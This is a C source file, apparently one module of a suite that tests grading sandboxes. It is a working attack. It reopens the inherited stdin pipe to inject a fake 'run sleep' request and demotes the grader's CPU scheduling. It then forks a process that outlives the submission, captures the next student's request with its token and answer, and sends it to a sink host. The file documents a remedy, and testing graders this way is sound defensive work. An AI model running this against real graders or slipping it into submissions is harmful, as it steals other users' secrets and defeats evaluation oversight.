// SPDX-License-Identifier: MIT
/*
 * Goal:  the next student's request, with the token and the answer in it.
 * Means: standard input. A grader that talks to its shim over stdin and stdout, and starts students
 *        with its stdin, gives each of them the stream of requests. A process that is left behind waits
 *        on it while the grader is busy with a request that nobody but the attacker has made: an
 *        inherited pipe can be opened again for writing.
 *
 *     attacker --"run sleep"--> [ pipe ] --> grader: runs sleep for 300 ms
 *     shim -----"run student"-> [ pipe ] --> thief ---> 127.0.0.1
 */
#include "attacks/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define BUFFER   8192 /* what a buffered reader takes at once: a frame of that size is taken alone */
#define PATIENCE 3    /* seconds */

/* Make a request of our own, padded with blanks to the size of the reader's buffer. */
static bool keep_busy(void)
{
	static const char work[] = "{\"jsonrpc\": \"2.0\", \"id\": 0, \"method\": \"eval\", \"params\": "
				   "[{\"response\": {\"argv\": [\"sleep\", \"0.3\"]}, "
				   "\"answer\": \"\", \"params\": {}}]}";
	static const char head[] = "Content-Length: 8168\r\n\r\n";
	char frame[BUFFER + 1];
	int in = open("/proc/self/fd/0", O_WRONLY | O_NONBLOCK | O_CLOEXEC);
	ssize_t n;

	snprintf(frame, sizeof(frame), "%s%-*s", head, BUFFER - (int)strlen(head), work);
	n = in < 0 ? -1 : write(in, frame, BUFFER);
	close(in);
	return n == BUFFER;
}

/* Where that is refused: be quicker than the grader, on its own processor. */
static void go_first(pid_t grader)
{
	const struct sched_param none = { 0 };
	cpu_set_t here;

	CPU_ZERO(&here);
	CPU_SET(sched_getcpu(), &here);
	sched_setaffinity(0, sizeof(here), &here);
	sched_setaffinity(grader, sizeof(here), &here);
	sched_setscheduler(grader, SCHED_IDLE, &none);
}

/* The grader reads the student's output to its end, which is here; then its next request. */
static _Noreturn void steal(int sink)
{
	const struct timespec tick = { .tv_nsec = 1000000 };
	char request[65536];
	int waiting = 0;
	ssize_t n;

	setsid();
	alarm(PATIENCE);
	close(STDOUT_FILENO);
	close(STDERR_FILENO);
	while (!ioctl(STDIN_FILENO, FIONREAD, &waiting) && waiting >= BUFFER)
		nanosleep(&tick, NULL); /* ours is still there */
	while ((n = read(STDIN_FILENO, request, sizeof(request))) > 0)
		send(sink, request, (size_t)n, MSG_NOSIGNAL);
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	struct stat st;
	pid_t child;
	int sink;

	submit("0");
	attempting(b);
	if (b->again)
		return CLAIM_DONE;
	errno = ENOTSUP;
	if (fstat(STDIN_FILENO, &st) || !S_ISFIFO(st.st_mode))
		return denied("standard input is no stream of requests");
	sink = dial(SOCK_STREAM, b->sink);
	if (sink < 0)
		return denied("connect");
	if (!keep_busy())
		go_first(b->worker);
	child = fork();
	if (!child)
		steal(sink);
	return child < 0 ? denied("fork") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the next student's request goes to the attacker",
	.means = "a process left behind reads the grader's stdin, which students inherit",
	.oracle = "secret:victim",
	.scene = SCENE_BEFORE_VICTIM,
	.grader = GRADER_RPC,
	.quick = true,
	.id = "FDS-03",
	.attack_id = "T1557, CWE-403",
	.remedy = "stdin from /dev/null for students; end every process of a submission",
	.refs = (const char *const[]){ "pipe(7)", "proc_pid_fd(5)", NULL },
	.run = run,
};
